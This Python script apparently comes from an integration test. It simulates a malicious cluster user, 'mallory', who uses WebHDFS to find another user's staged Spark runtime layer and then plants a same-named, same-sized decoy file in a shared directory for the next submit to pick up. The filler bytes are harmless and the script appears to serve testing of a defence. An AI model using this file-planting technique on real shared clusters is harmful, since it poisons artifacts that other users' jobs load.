"""mallory, another user of the cluster, plants a Spark runtime layer: in the shared directory /it/planted she
creates the file the first user's next submit will look for (the name of the runtime layer bob staged in
/it/shared, which anyone may list), as large as the real one, read-only for others, holding other bytes.
Usage: plant.py <yarn.properties>"""
import http.client
import json
import sys
import urllib.parse
import urllib.request

props = dict(line.split("=", 1) for line in open(sys.argv[1]).read().splitlines() if "=" in line)
webhdfs = props["webhdfs"].strip()
as_mallory = "user.name=mallory"

with urllib.request.urlopen(webhdfs + "/it/shared?op=LISTSTATUS&" + as_mallory) as listing:
    statuses = json.load(listing)["FileStatuses"]["FileStatus"]
layer = next(s for s in statuses if s["pathSuffix"].startswith("spark-runtime-"))
name, length = layer["pathSuffix"], layer["length"]

# WebHDFS CREATE: the NameNode answers 307 with the DataNode to send the bytes to
url = urllib.parse.urlsplit(webhdfs + "/it/planted/" + name + "?op=CREATE&permission=644&overwrite=false&" + as_mallory)
namenode = http.client.HTTPConnection(url.hostname, url.port)
namenode.request("PUT", url.path + "?" + url.query)
redirect = namenode.getresponse()
assert redirect.status == 307, (redirect.status, redirect.read())
datanode_url = urllib.parse.urlsplit(redirect.getheader("Location"))
datanode = http.client.HTTPConnection(datanode_url.hostname, datanode_url.port)
datanode.putrequest("PUT", datanode_url.path + "?" + datanode_url.query)
datanode.putheader("Content-Length", str(length))
datanode.endheaders()
chunk = b"planted by mallory\n" * 4096
sent = 0
while sent < length:
    part = chunk[: length - sent]
    datanode.send(part)
    sent += len(part)
created = datanode.getresponse()
assert created.status == 201, (created.status, created.read())
print("mallory planted /it/planted/%s (%d bytes, other content)" % (name, length))
